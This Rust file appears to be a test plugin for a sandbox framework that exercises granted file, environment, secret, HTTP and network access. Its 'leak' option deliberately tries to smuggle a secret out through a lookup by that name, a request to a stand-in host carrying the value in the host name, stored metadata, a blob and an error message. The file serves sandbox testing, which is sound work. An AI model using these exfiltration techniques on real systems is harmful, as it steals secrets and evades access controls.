//! `PROBE`: performs each action listed in its options and reports what it
//! saw, so tests can show that granted access works (the positive side of
//! the sandbox tests). Options: `{"read": PATH, "write": PATH, "list": PATH,
//! "env": NAME, "secret": NAME, "http": URL, "connect": "IP:PORT",
//! "metadata": VALUE, "log": TEXT, "leak": NAME}`, each optional. `leak`
//! is hostile: it tries every way to get the secret NAME's value out — as
//! the name of another secret, as a host name, into metadata and a blob —
//! and then fails with the value in its message.
use std::io::Write;

use cordon_sdk::executor::cordon::plugin::{blobs, log, metadata, secrets};
use cordon_sdk::executor::{cordon::plugin::types::StageStatus, exports::cordon::plugin::execution::{StageRequest, StageResult}, finish};

cordon_sdk::single_stage!("PROBE", "Exercises granted access", run);

fn run(request: StageRequest) -> StageResult {
    match probe(&request) {
        Ok(report) => finish(StageStatus::Success, report),
        Err(e) => finish(StageStatus::Failure, e),
    }
}

fn probe(request: &StageRequest) -> Result<String, String> {
    let options: serde_json::Value = serde_json::from_str(&request.stage.options).map_err(|e| e.to_string())?;
    let text = |k: &str| options.get(k).and_then(|v| v.as_str()).map(str::to_string);
    let mut report = Vec::new();
    if let Some(path) = text("read") {
        let content = std::fs::read_to_string(&path).map_err(|e| format!("read {path}: {e}"))?;
        report.push(format!("read={}", content.trim()));
    }
    if let Some(path) = text("write") {
        let mut f = std::fs::File::create(&path).map_err(|e| format!("create {path}: {e}"))?;
        f.write_all(b"written by probe").map_err(|e| format!("write {path}: {e}"))?;
        report.push(format!("wrote={path}"));
    }
    if let Some(path) = text("list") {
        let mut names: Vec<String> = std::fs::read_dir(&path)
            .map_err(|e| format!("list {path}: {e}"))?
            .filter_map(|e| e.ok().map(|e| e.file_name().to_string_lossy().into_owned()))
            .collect();
        names.sort();
        report.push(format!("list={}", names.join(",")));
    }
    if let Some(name) = text("env") {
        let value = std::env::var(&name).map_err(|e| format!("env {name}: {e}"))?;
        report.push(format!("env={value}"));
    }
    if let Some(name) = text("secret") {
        let value = secrets::get(&name).map_err(|e| format!("secret {name}: {e:?}"))?;
        // Logged on purpose: the host must mask it.
        log::write(log::Level::Info, &format!("the secret is {value}"));
        println!("stdout also has {value}");
        report.push("secret=fetched".to_string());
    }
    if let Some(url) = text("http") {
        let response = cordon_sdk::http::get(&url, 1 << 20).map_err(|e| format!("GET {url}: {e}"))?;
        report.push(format!("http={} {}", response.status, String::from_utf8_lossy(&response.body).trim()));
    }
    if let Some(addr) = text("connect") {
        std::net::TcpStream::connect(addr.as_str()).map_err(|e| format!("connect {addr}: {e}"))?;
        report.push(format!("connected={addr}"));
    }
    if let Some(value) = text("metadata") {
        let before = metadata::get(metadata::Scope::Stage, "probe");
        metadata::put(metadata::Scope::Stage, "probe", &value)?;
        report.push(format!("metadata-before={}", before.unwrap_or_default()));
    }
    if let Some(name) = text("leak") {
        let value = secrets::get(&name).map_err(|e| format!("secret {name}: {e:?}"))?;
        let _ = secrets::get(&value);
        let _ = cordon_sdk::http::get(&format!("http://{value}.example.invalid/"), 16);
        let stored = metadata::put(metadata::Scope::Deployment, "leak", &format!("value={value}"));
        let blob = blobs::put("leak", value.as_bytes());
        return Err(format!("leaking {value}: metadata {stored:?}, blob {blob:?}"));
    }
    if let Some(line) = text("log") {
        log::write(log::Level::Warn, &line);
        eprintln!("stderr: {line}");
    }
    Ok(report.join(" "))
}
